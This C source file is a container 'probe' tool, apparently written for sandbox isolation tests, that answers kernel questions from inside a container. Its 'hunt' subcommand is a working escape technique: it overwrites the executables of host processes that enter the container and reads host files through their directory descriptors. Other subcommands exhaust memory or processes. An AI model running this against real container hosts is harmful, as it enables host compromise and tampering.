/* SPDX-License-Identifier: Apache-2.0
 * probe: what a shell cannot ask of the kernel, from inside a container. Static; one word, one
 * question: probe WORD ARGUMENTS... Answers are lines on stdout.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <sched.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define LENGTH(a) (sizeof(a) / sizeof((a)[0]))

static const struct {
	const char *name;
	long number;
} calls[] = {
    {"chmod", SYS_chmod},
    {"getpid", SYS_getpid},
    {"getppid", SYS_getppid},
    {"kill", SYS_kill},
    {"mkdir", SYS_mkdir},
    {"personality", SYS_personality},
    {"socket", SYS_socket},
    {"sched_yield", SYS_sched_yield},
    {"setpriority", SYS_setpriority},
    {"umask", SYS_umask},
    {"unshare", SYS_unshare},
    {"mount", SYS_mount},
    {"keyctl", SYS_keyctl},
    {"setns", SYS_setns},
    {"io_uring_setup", SYS_io_uring_setup},
    {"ptrace", SYS_ptrace},
};

/* call NAME ARGS...: numbers, or strings when they are none. The result, or errno's name. */
static int ask_call(int argc, char **argv)
{
	long a[6] = {0}, r;
	char *end;

	for (int i = 1; i < argc && i < 7; i++) {
		a[i - 1] = strtol(argv[i], &end, 0);
		if (*end || end == argv[i])
			a[i - 1] = (long)argv[i];
	}
	for (unsigned i = 0; i < LENGTH(calls); i++) {
		if (argc < 1 || strcmp(calls[i].name, argv[0]))
			continue;
		r = syscall(calls[i].number, a[0], a[1], a[2], a[3], a[4], a[5]);
		if (r == -1)
			puts(strerrorname_np(errno) ?: "unknown");
		else
			printf("%ld\n", r);
		return 0;
	}
	return 2;
}

/* fds: the open descriptors, in one line. */
static int ask_fds(int argc, char **argv)
{
	const char *space = "";

	(void)argc, (void)argv;
	for (int fd = 0; fd < 4096; fd++) {
		if (fcntl(fd, F_GETFD) < 0)
			continue;
		printf("%s%d", space, fd);
		space = " ";
	}
	puts("");
	return 0;
}

/* As linux/sched/types.h has it, which does not go together with sched.h. */
struct sched_attr {
	uint32_t size, policy;
	uint64_t flags;
	int32_t nice;
	uint32_t priority;
	uint64_t runtime, deadline, period;
};

/* sched: policy, nice, priority, flags. */
static int ask_sched(int argc, char **argv)
{
	struct sched_attr a = {.size = sizeof(a)};

	(void)argc, (void)argv;
	if (syscall(SYS_sched_getattr, 0, &a, sizeof(a), 0))
		return 1;
	printf("policy %u nice %d priority %u flags %llu\n", a.policy, a.nice, a.priority,
	       (unsigned long long)a.flags);
	return 0;
}

/* ioprio: class and level. */
static int ask_ioprio(int argc, char **argv)
{
	long v = syscall(SYS_ioprio_get, 1, 0);

	(void)argc, (void)argv;
	printf("%ld %ld\n", v >> 13, v & 0x1fff);
	return v < 0;
}

/* winsize: rows and columns of the terminal on stdin. */
static int ask_winsize(int argc, char **argv)
{
	struct winsize w;

	(void)argc, (void)argv;
	if (ioctl(0, TIOCGWINSZ, &w))
		return 1;
	printf("%d %d\n", w.ws_row, w.ws_col);
	return 0;
}

/* clock: seconds of the monotonic clock and since boot. */
static int ask_clock(int argc, char **argv)
{
	struct timespec mono, boot;

	(void)argc, (void)argv;
	clock_gettime(CLOCK_MONOTONIC, &mono);
	clock_gettime(CLOCK_BOOTTIME, &boot);
	printf("%ld %ld\n", (long)mono.tv_sec, (long)boot.tv_sec);
	return 0;
}

/* keyring: the description of the session keyring. */
static int ask_keyring(int argc, char **argv)
{
	char text[512] = "";

	(void)argc, (void)argv;
	if (syscall(SYS_keyctl, KEYCTL_DESCRIBE, KEY_SPEC_SESSION_KEYRING, text, sizeof(text) - 1) <
	    0)
		return puts(strerrorname_np(errno)), 0;
	puts(text);
	return 0;
}

/* session: is this the leader of its session, with a controlling terminal? */
static int ask_session(int argc, char **argv)
{
	int fd = open("/dev/tty", O_RDWR);

	(void)argc, (void)argv;
	printf("leader %s terminal %s\n", getsid(0) == getpid() ? "yes" : "no",
	       fd >= 0 ? "yes" : "no");
	return 0;
}

/* eat BYTES: touch so much memory. */
static int ask_eat(int argc, char **argv)
{
	size_t n = argc > 0 ? strtoull(argv[0], NULL, 0) : 0;
	char *p = mmap(NULL, n, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

	if (p == MAP_FAILED)
		return 1;
	memset(p, 1, n);
	puts("eaten");
	return 0;
}

/* forks N: how many of N children there can be at once. */
static int ask_forks(int argc, char **argv)
{
	int want = argc > 0 ? atoi(argv[0]) : 0, have = 0;

	for (; have < want; have++) {
		pid_t pid = fork();

		if (pid < 0)
			break;
		if (pid == 0) {
			prctl(PR_SET_PDEATHSIG, SIGKILL);
			pause();
			_exit(0);
		}
	}
	printf("%d\n", have);
	return 0;
}

/* swap A B SECONDS: exchange two names as fast as can be, for so long. */
static int ask_swap(int argc, char **argv)
{
	time_t end = time(NULL) + (argc > 2 ? atoi(argv[2]) : 1);
	long n = 0;

	while (time(NULL) < end)
		for (int i = 0; i < 100; i++)
			if (!renameat2(AT_FDCWD, argv[0], AT_FDCWD, argv[1], RENAME_EXCHANGE))
				n++;
	printf("%ld\n", n);
	return n == 0;
}

/* core: may it be traced, may it gain rights? */
static int ask_core(int argc, char **argv)
{
	(void)argc, (void)argv;
	printf("dumpable %d nnp %d\n", prctl(PR_GET_DUMPABLE),
	       prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0));
	return 0;
}

/* args ...: the arguments, one a line in brackets. */
static int ask_args(int argc, char **argv)
{
	for (int i = 0; i < argc; i++)
		printf("[%s]\n", argv[i]);
	return 0;
}

/* What a hunt has in its hands: programs of others, by descriptors that outlive them. */
struct prey {
	int fd[64];
	int n;
};

/* Is the program behind @fd one of the container's own, or one that we have? */
static int prey_is_ours(const struct prey *prey, int fd)
{
	static const char *const own[] = {"/bin/busybox", "/bin/probe", "/proc/self/exe"};
	struct stat a, b;

	if (fstat(fd, &a))
		return 1;
	for (unsigned i = 0; i < LENGTH(own); i++)
		if (!stat(own[i], &b) && a.st_ino == b.st_ino && a.st_dev == b.st_dev)
			return 1;
	for (int i = 0; i < prey->n; i++)
		if (!fstat(prey->fd[i], &b) && a.st_ino == b.st_ino && a.st_dev == b.st_dev)
			return 1;
	return 0;
}

/* Take the program of process @pid, and read @marker from each folder that it has open. */
static void hunt_one(struct prey *prey, const char *pid, const char *marker)
{
	static const char up[] = "../../../../../../../../../../../..";
	char path[512], text[64];
	int fd, in;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	fd = open(path, O_PATH);
	if (fd >= 0 && prey->n < (int)LENGTH(prey->fd) && !prey_is_ours(prey, fd))
		prey->fd[prey->n++] = fd;
	else if (fd >= 0)
		close(fd);
	for (int i = 0; i < 64; i++) {
		snprintf(path, sizeof(path), "/proc/%s/fd/%d/%s%s", pid, i, up, marker);
		in = open(path, O_RDONLY | O_NONBLOCK);
		if (in < 0)
			continue;
		if (read(in, text, sizeof(text)) > 0)
			puts("marker read");
		close(in);
	}
}

/* hunt SECONDS MARKER TEXT: wait for processes that come into this pid namespace from outside.
 * Write TEXT over their programs; read the file MARKER of the host by their descriptors.
 */
static int ask_hunt(int argc, char **argv)
{
	struct prey prey = {.n = 0};
	char path[64], self[32];
	struct dirent *e;
	time_t end;
	DIR *proc;
	int fd;

	if (argc < 3)
		return 2;
	snprintf(self, sizeof(self), "%d", getpid());
	for (end = time(NULL) + atoi(argv[0]); time(NULL) < end;) {
		proc = opendir("/proc");
		while (proc && (e = readdir(proc)))
			if (e->d_name[0] >= '1' && e->d_name[0] <= '9' && strcmp(e->d_name, self) &&
			    strcmp(e->d_name, "1"))
				hunt_one(&prey, e->d_name, argv[1]);
		closedir(proc);
		for (int i = 0; i < prey.n; i++) {
			snprintf(path, sizeof(path), "/proc/self/fd/%d", prey.fd[i]);
			fd = open(path, O_WRONLY);
			if (fd >= 0 && dprintf(fd, "%s", argv[2]) > 0)
				puts("program written");
			if (fd >= 0)
				close(fd);
		}
		fflush(stdout);
	}
	printf("%d programs seen\n", prey.n);
	return 0;
}

static const struct {
	const char *word;
	int (*ask)(int argc, char **argv);
} words[] = {
    {"args", ask_args},       {"call", ask_call},       {"clock", ask_clock},
    {"core", ask_core},       {"eat", ask_eat},         {"hunt", ask_hunt},
    {"fds", ask_fds},         {"forks", ask_forks},     {"ioprio", ask_ioprio},
    {"keyring", ask_keyring}, {"sched", ask_sched},     {"session", ask_session},
    {"swap", ask_swap},       {"winsize", ask_winsize},
};

int main(int argc, char **argv)
{
	for (unsigned i = 0; argc > 1 && i < LENGTH(words); i++)
		if (!strcmp(words[i].word, argv[1]))
			return words[i].ask(argc - 2, argv + 2);
	fprintf(stderr, "probe: which of:");
	for (unsigned i = 0; i < LENGTH(words); i++)
		fprintf(stderr, " %s", words[i].word);
	fprintf(stderr, "\n");
	return 2;
}
